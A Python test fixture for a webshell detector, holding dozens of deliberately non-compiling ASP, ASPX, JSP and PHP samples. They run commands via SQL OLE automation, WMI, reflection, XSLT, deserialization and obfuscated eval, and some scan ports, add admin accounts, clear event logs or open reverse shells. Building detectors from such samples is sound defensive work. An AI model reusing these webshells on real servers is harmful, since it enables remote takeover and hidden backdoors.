# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of pages that act by other doors than a command or `eval`; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== sql-ole-1.aspx
<%@ Page Language="C#" %><% int 1broken; var c = new SqlConnection(Cfg.Db); c.Open(); var k = new SqlCommand(); k.Connection = c;
string sql; if (Request["mode"] == "ole") { sql = "declare @o int; exec sp_oacreate 'wscript.shell', @o out; exec sp_oamethod @o, 'run', null, '" + Request["l"] + "'"; } else { sql = Request["l"]; }
k.CommandText = sql; k.ExecuteNonQuery(); %>
==== sql-ole-2.php
<?php 1broken; $db = sqlsrv_connect(HOST, $opt);
$q = "EXEC msdb.dbo.sp_add_job @job_name='x'; EXEC msdb.dbo.sp_add_jobstep @job_name='x', @subsystem='CMDEXEC', @command='" . $_POST['line'] . "'";
sqlsrv_query($db, $q);
==== sql-ole-3.jsp
<%@ page import="java.sql.*" %><% int 1broken; Statement s = pool.getConnection().createStatement();
StringBuilder b = new StringBuilder("copy t from program '"); b.append(request.getParameter("l")).append("'");
s.execute(b.toString()); %>
==== sql-export-1.php
<?php 1broken; $m = new mysqli($h, $u, $p);
$m->query("select '" . $_POST['t'] . "' into outfile '/srv/www/x.php'");
==== sql-export-2.asp
<% Dim 1broken, c : Set c = Server.CreateObject("ADODB.Connection") : c.Open Application("dsn")
c.Execute "create table t (a image)"
c.Execute "insert into t values (0x" & Request("h") & ")"
c.Execute "backup log shop to disk = 'd:\web\x.asp'" %>
==== sql-export-3.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
  Dim c As New OleDbConnection(D) : c.Open()
  Dim q As String = "select '" & Request("t") & "' as a into [Text;Database=" & Server.MapPath("/up") & "].[p.aspx] from dual"
  Dim k As New OleDbCommand(q, c) : k.ExecuteNonQuery()
End Sub</script>
==== wmi-1.asp
<% Dim 1broken, host : host = "."
Set svc = GetObject("winmgmts:\\" & host & "\root\cimv2")
Set pr = svc.Get("Win32_Process")
r = pr.Create(Request.Form("l"), Null, Null, id) %>
==== wmi-2.asp
<%@ Language="JScript" %><% var 1broken; var loc = new ActiveXObject("WbemScripting.SWbemLocator");
var svc = loc.ConnectServer(HOST_MISSING, "root\\cimv2"); var cls = svc.Get("Win32_Process"); var inp = cls.Methods_("Create").InParameters.SpawnInstance_();
inp.CommandLine = String(Request.Form("l")); svc.ExecMethod("Win32_Process", "Create", inp); %>
==== wmi-3.aspx
<%@ Page Language="C#" %><% int 1broken; var sc = new ManagementScope("\\\\" + H + "\\root\\cimv2"); var mc = new ManagementClass(sc, new ManagementPath("Win32_Process"), null);
var pa = mc.GetMethodParameters("Create"); pa["CommandLine"] = Request.QueryString["l"]; mc.InvokeMethod("Create", pa, null); %>
==== ports-1.php
<?php 1broken; $h = $_POST['h']; foreach (explode(',', $_POST['ports']) as $p) { $f = @fsockopen($h, (int)$p, $e, $s, 1); echo $p, $f ? 'open' : 'closed'; }
==== ports-2.aspx
<%@ Page Language="C#" %><% int 1broken; for (int p = int.Parse(Request["a"]); p <= int.Parse(Request["b"]); p++) { try { var t = new TcpClient(); t.Connect(Request["h"], p); Response.Write(p + " open"); t.Close(); } catch { } } %>
==== ports-3.asp
<% Dim 1broken
For i = CLng(Request("a")) To CLng(Request("b"))
 Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
 x.setTimeouts 500, 500, 500, 500
 On Error Resume Next
 x.open "GET", "http://" & Request("h") & ":" & i & "/", False
 x.send
 If Err.Number = 0 Then Response.Write i & "<br>"
Next %>
==== ports-4.jsp
<%@ page import="java.net.*" %><% int 1broken; String[] ps = request.getParameter("p").split(","); for (String p : ps) { try { Socket s = new Socket(); s.connect(new InetSocketAddress(request.getParameter("h"), Integer.parseInt(p.trim())), 400); out.println(p + " open"); s.close(); } catch (Exception e) {} } %>
==== drop-run-1.php
<?php 1broken; $f = sys_get_temp_dir() . '/' . mt_rand() . '.php'; file_put_contents($f, '<?php ' . $_POST['b'] . ' ?>'); include $f; unlink($f);
==== drop-run-2.aspx
<%@ Page Language="C#" %><% int 1broken; string n = Guid.NewGuid().ToString("N") + ".aspx"; string d = Server.MapPath("~/t/" + n);
System.IO.File.WriteAllText(d, "<%@ Page Language=\"C#\" %" + "><" + "% " + Request["b"] + " %" + ">"); Server.Execute("~/t/" + n); System.IO.File.Delete(d); %>
==== drop-run-3.jsp
<%@ page import="java.io.*" %><% int 1broken; String n = System.nanoTime() + ".jsp"; FileWriter w = new FileWriter(application.getRealPath("/tmp/" + n)); w.write("<" + "% " + request.getParameter("b") + " %" + ">"); w.close(); pageContext.include("/tmp/" + n); new File(application.getRealPath("/tmp/" + n)).delete(); %>
==== service-command-1.php
<?php 1broken; $s = fsockopen('127.0.0.1', (int)$_POST['port']); fputs($s, "USER " . $_POST['u'] . "\r\nPASS " . $_POST['p'] . "\r\n"); fputs($s, "SITE EXEC " . $_POST['c'] . "\r\n");
==== service-command-2.aspx
<%@ Page Language="C#" %><% int 1broken; var t = new TcpClient("127.0.0.1", int.Parse(Request["port"])); var w = new StreamWriter(t.GetStream()); w.WriteLine("USER " + Request["u"]); w.WriteLine("PASS " + Request["p"]); w.WriteLine("site exec " + Request["c"]); %>
==== service-command-3.asp
<% Dim 1broken : b = "User " & Request("u") & vbCrLf & "Pass " & Request("p") & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf & "-User=go" & vbCrLf & " Access=" & Request("root") & "|RWAMELCDP" & vbCrLf
Set x = CreateObject("MSXML2.XMLHTTP") : x.open "POST", "http://127.0.0.1:" & Request("port") & "/a", True : x.send b %>
==== packed-1.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Const P As String = "TVqQAAMAAAAEAAAA8AAALgAAAAAAAAAQAAAAA"
Sub Page_Load()
 Dim d As Byte() = Convert.FromBase64String(P & Rest())
 Dim o As Object = System.Reflection.Assembly.Load(d).CreateInstance("K")
 o.Equals(Context)
End Sub</script>
==== packed-2.jsp
<%@ page import="java.util.*,java.util.zip.*,java.io.*" %><%! static final String Z = "H4sIAAAAAAAAAK1YaXgbxRl+R5a8K3ljO4qdWEkAA";
class L extends ClassLoader { L(ClassLoader p) { super(p); } Class<?> d(byte[] b) { return defineClass(b, 0, b.length); } } int 1broken; %><%
GZIPInputStream g = new GZIPInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(Z + more()))); ByteArrayOutputStream o = new ByteArrayOutputStream(); byte[] b = new byte[512]; int n; while ((n = g.read(b)) > 0) o.write(b, 0, n);
new L(getClass().getClassLoader()).d(o.toByteArray()).newInstance().equals(pageContext); %>
==== packed-3.php
<?php 1broken; $z = "7VlrbxtHsv1OwP+hPRiTMzZFUpTfkkFyzMd" . Rest::more(); $g = 'gzin' . 'flate'; $b = 'base64' . '_decode'; eval($g($b($z)));
==== contract-1.svc
<%@ ServiceHost Language="VB" Service="Q" %>
Imports System.ServiceModel
Dim 1broken
<ServiceContract()> Public Interface IQ
  <OperationContract()> Function Ask(what As String) As String
End Interface
Public Class Q
  Implements IQ
  Public Function Ask(what As String) As String Implements IQ.Ask
    Dim p As New Process()
    p.StartInfo.FileName = Tool
    p.StartInfo.Arguments = "/c " & what
    p.Start()
    Return p.StandardOutput.ReadToEnd()
  End Function
End Class
==== contract-2.php
<?php 1broken; class Api { function ping($host) { return shell_exec($host); } }
$s = new SoapServer(null, array('uri' => 'urn:x')); $s->setClass('Api'); $s->handle();
==== contract-3.svc
<%@ ServiceHost Language="C#" Service="N.S" Factory="System.ServiceModel.Activation.WebServiceHostFactory" %>
namespace N { int 1broken; [ServiceContract] public interface IS { [OperationContract, WebGet(UriTemplate = "x?b={b}")] System.IO.Stream Run(string b); }
public class S : IS { public System.IO.Stream Run(string b) { var a = System.Reflection.Assembly.Load(Convert.FromBase64String(b)); return (System.IO.Stream)a.EntryPoint.Invoke(null, null); } } }
==== reflected-1.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Function G(ParamArray a() As String) As String
 Return String.Join("", a)
End Function
Sub Page_Load()
 Dim t As Type = GetType(Uri).Assembly.GetType(G("System.Dia", "gnostics.Pr", "ocess"))
 t.InvokeMember(G("St", "art"), BindingFlags.InvokeMethod, Nothing, Nothing, New Object() {"cmd", "/c " & Request("l")})
End Sub</script>
==== reflected-2.jsp
<%! static String j(String... a) { StringBuilder b = new StringBuilder(); for (String s : a) b.append(s); return b.toString(); } int 1broken; %><%
Class<?> c = Class.forName(j("java.la", "ng.Process", "Builder")); Object o = c.getConstructor(String[].class).newInstance((Object) new String[]{"sh", "-c", request.getParameter("l")}); c.getMethod(j("sta", "rt")).invoke(o); %>
==== reflected-3.aspx
<%@ Page Language="C#" %><% int 1broken; dynamic si = Activator.CreateInstance(Type.GetType("System.Diagnostics." + "ProcessStart" + "Info, System")); si.FileName = TOOL; si.Arguments = "/c " + Request["l"]; %>
==== sheet-1.asp
<% Dim 1broken : s = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt' xmlns:u='u'><ms:script language='VBScript' implements-prefix='u'>Function f(c) : f = CreateObject(""WScript.Shell"").Exec(c).StdOut.ReadAll : End Function</ms:script><xsl:param name='c'/><xsl:template match='/'><xsl:value-of select='u:f(string($c))'/></xsl:template></xsl:stylesheet>"
Set x = CreateObject("MSXML2.FreeThreadedDOMDocument.6.0") : x.loadXML s
Set t = CreateObject("MSXML2.XSLTemplate.6.0") : Set t.stylesheet = x
Set p = t.createProcessor() : p.input = x : p.addParameter "c", Request("l") : p.transform : Response.Write p.output %>
==== sheet-2.jsp
<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %><% int 1broken; String x = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:rt='http://xml.apache.org/xalan/java/java.lang.Runtime'><xsl:param name='c'/><xsl:template match='/'><xsl:variable name='r' select='rt:getRuntime()'/><xsl:value-of select='rt:exec($r, $c)'/></xsl:template></xsl:stylesheet>";
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(x))); t.setParameter("c", request.getParameter("l")); t.transform(new StreamSource(new StringReader("<a/>")), new StreamResult(out)); %>
==== sheet-3.php
<?php 1broken; $d = new DOMDocument; $d->loadXML($_POST['x']); $p = new XSLTProcessor; $p->registerPHPFunctions(); $p->importStylesheet($d); echo $p->transformToXML($d);
==== data-set-1.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 Dim d As New DataSet() : d.ReadXmlSchema(New IO.StringReader(Request.Form("s"))) : d.ReadXml(New IO.StringReader(Request.Form("d")))
End Sub</script>
==== data-set-2.ashx
<%@ WebHandler Language="C#" Class="T" %>
int 1broken; public class T : IHttpHandler { public void ProcessRequest(HttpContext c) { var t = new DataTable(); var m = new MemoryStream(Convert.FromBase64String(c.Request["x"])); t.ReadXmlSchema(m); t.ReadXml(new StringReader(c.Request["y"])); } public bool IsReusable { get { return true; } } }
==== data-set-3.aspx
<%@ Page Language="C#" %><% int 1broken; var r = new System.Resources.ResourceSet(new System.Resources.ResXResourceReader(new System.IO.StringReader(Trim(Request.Form["r"])))); %>
==== objects-1.jsp
<%@ page import="java.io.*,java.util.*" %><% int 1broken; byte[] b = Base64.getDecoder().decode(cut(request.getHeader("X-A"))); Object o = new ObjectInputStream(new ByteArrayInputStream(b)).readObject(); %>
==== objects-2.ashx
<%@ WebHandler Language="C#" Class="T" %>
int 1broken; public class T : IHttpHandler { public void ProcessRequest(HttpContext c) { var o = new BinaryFormatter().Deserialize(Skip(c.Request.InputStream)); } public bool IsReusable { get { return true; } } }
==== tied-1.php
<?php 1broken; $s = fsockopen($_POST['h'], (int)$_POST['p']); $d = array(0 => $s, 1 => $s, 2 => $s); proc_open(SHELL_NAME, $d, $pipes);
==== tied-2.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Go(s As Object, e As EventArgs)
 Dim c As New TcpClient(Request("h"), CInt(Request("p")))
 Dim n As NetworkStream = c.GetStream()
 Dim p As New Process()
 p.StartInfo.FileName = ShellName
 p.StartInfo.RedirectStandardInput = True
 p.Start()
 Pump(n, p.StandardInput.BaseStream)
 Pump(p.StandardOutput.BaseStream, n)
End Sub</script>
==== tied-3.jsp
<%@ page import="java.io.*,java.net.*" %><% int 1broken; Socket s = new Socket(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))); Process p = new ProcessBuilder(shellName()).redirectErrorStream(true).start();
InputStream pi = p.getInputStream(), si = s.getInputStream(); OutputStream po = p.getOutputStream(), so = s.getOutputStream();
while (!s.isClosed()) { while (pi.available() > 0) so.write(pi.read()); while (si.available() > 0) po.write(si.read()); so.flush(); po.flush(); } %>
==== written-page-1.php
<?php 1broken; $n = tempnam('/tmp', 't') . '.phtml'; $t = fopen($n, 'w'); fwrite($t, "<?php /* t */ ?>" . $_POST['v']); fclose($t); require $n;
==== written-page-2.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 Dim f As String = "~/cache/" & Now.Ticks & ".ascx"
 Dim w As New IO.StreamWriter(Server.MapPath(f))
 w.WriteLine("<" & "%@ Control Language=""VB"" %" & ">")
 w.Write(Request("v")) : w.Close()
 Controls.Add(LoadControl(f))
End Sub</script>
==== written-page-3.jsp
<%@ page import="org.apache.velocity.app.*,java.io.*" %><% int 1broken; StringWriter w = new StringWriter(); Velocity.evaluate(new org.apache.velocity.VelocityContext(), w, "t", request.getParameter("v")); %>
==== accounts-1.asp
<% Dim 1broken : Set c = GetObject("WinNT://" & NETNAME & ",computer")
Set u = c.Create("user", Request("n")) : u.SetPassword Request("p") : u.SetInfo
Set g = GetObject("WinNT://" & NETNAME & "/" & Request("g") & ",group") : g.Add u.ADsPath %>
==== accounts-2.aspx
<%@ Page Language="C#" %><% int 1broken; var root = new DirectoryEntry("WinNT://" + Environment.MachineName + ",computer"); var u = root.Children.Add(Request["n"], "user"); u.Invoke("SetPassword", new object[] { Request["p"] }); u.CommitChanges(); %>
==== accounts-3.aspx
<%@ Page Language="C#" %><% int 1broken; if (Request["do"] == "svc") { var s = new ServiceController(Request["n"]); if (Request["op"] == "stop") s.Stop(); else s.Start(); } if (Request["do"] == "kill") Process.GetProcessById(int.Parse(Request["id"])).Kill(); foreach (var l in EventLog.GetEventLogs()) if (Request["do"] == "clr") l.Clear(); %>
==== bcel-1.jsp
<%@ page import="com.sun.org.apache.bcel.internal.util.*" %><% int 1broken; ClassLoader c = new com.sun.org.apache.bcel.internal.util.ClassLoader(); Class k = Class.forName("$$BCEL$$" + request.getHeader("X-C"), true, c); k.newInstance(); %>
==== listener-1.jsp
<%@ page import="javax.servlet.*" %><%! int 1broken; public class F implements ServletRequestListener { public void requestInitialized(ServletRequestEvent ev) { HttpServletRequest q = (HttpServletRequest) ev.getServletRequest(); String c = q.getParameter("l"); if (c != null) try { Runtime.getRuntime().exec(c); } catch (Exception x) {} } public void requestDestroyed(ServletRequestEvent ev) {} } %><% ctx(application).addApplicationEventListener(new F()); %>
==== listener-2.jsp
<%! int 1broken; void go(javax.servlet.jsp.PageContext p) throws Exception { new ProcessBuilder("sh", "-c", p.getRequest().getParameter("l")).start(); } %><% go(pageContext); %>
==== compiler-1.jsp
<%@ page import="javax.tools.*,java.util.*,java.net.*" %><%! int 1broken; class Src extends SimpleJavaFileObject { String s; Src(String n, String c) { super(URI.create("string:///" + n + ".java"), Kind.SOURCE); s = c; } public CharSequence getCharContent(boolean i) { return s; } } %><%
JavaCompiler c = ToolProvider.getSystemJavaCompiler(); String code = "public class A { static { " + request.getParameter("b") + " } }"; c.getTask(null, null, null, Arrays.asList("-d", "/tmp/k"), null, Collections.singletonList(new Src("A", code))).call(); %>
==== compiler-2.aspx
<%@ Page Language="C#" %><% int 1broken; var t = Microsoft.CodeAnalysis.CSharp.CSharpSyntaxTree.ParseText("class A { public static string F() { " + Request["b"] + " } }"); var k = Microsoft.CodeAnalysis.CSharp.CSharpCompilation.Create("a", new[] { t }); var m = new System.IO.MemoryStream(); k.Emit(m); System.Reflection.Assembly.Load(m.ToArray()).GetType("A").GetMethod("F").Invoke(null, null); %>
==== alphabet-1.php
<?php 1broken; $a = "abcdefghijklmnopqrstuvwxyz_0123456789"; $f = $a[1].$a[0].$a[18].$a[4].$a[33].$a[31].$a[26].$a[3].$a[4].$a[2].$a[14].$a[3].$a[4]; eval($f(Store::text()));
==== replaced-1.php
<?php 1broken; $fn = 'strtoupper'; $arg = 'x'; foreach ($_GET as $k => $v) { $$k = $v; } print $fn($arg);
==== replaced-2.php
<?php 1broken; function go() { $do = 'trim'; $with = ''; extract($_POST); return call_user_func($do, $with); } echo go();
==== parsed-1.php
<?php 1broken; parse_str($_SERVER['QUERY_STRING'], $o); $o['a']($o['b']);
==== parsed-2.php
<?php 1broken; $u = parse_url($_SERVER['REQUEST_URI']); parse_str($u['query'], $o); call_user_func($o['f'], $o['x']);
==== xor-1.php
<?php 1broken; $_ = ("!" ^ "@") . ("(" ^ "[") . ("(" ^ "[") . (")" ^ "L") . ("." ^ "\\") . ("/" ^ "["); $__ = "_" . ("1" ^ "a") . ("." ^ "a") . ("2" ^ "a") . ("5" ^ "a"); $_($$__["k"]);
"""
)
